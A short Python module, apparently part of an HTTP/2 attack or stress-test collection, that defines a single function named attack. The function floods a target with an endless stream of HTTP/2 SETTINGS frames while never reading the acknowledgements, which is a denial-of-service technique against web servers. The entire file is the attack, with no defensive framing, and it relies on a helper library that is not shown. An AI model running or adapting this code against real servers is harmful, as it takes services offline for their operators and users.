# SPDX-License-Identifier: Apache-2.0
"""SETTINGS without end; the acknowledgements are never read."""
import itertools

from lib.http2 import SETTINGS, frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100))) * 100))
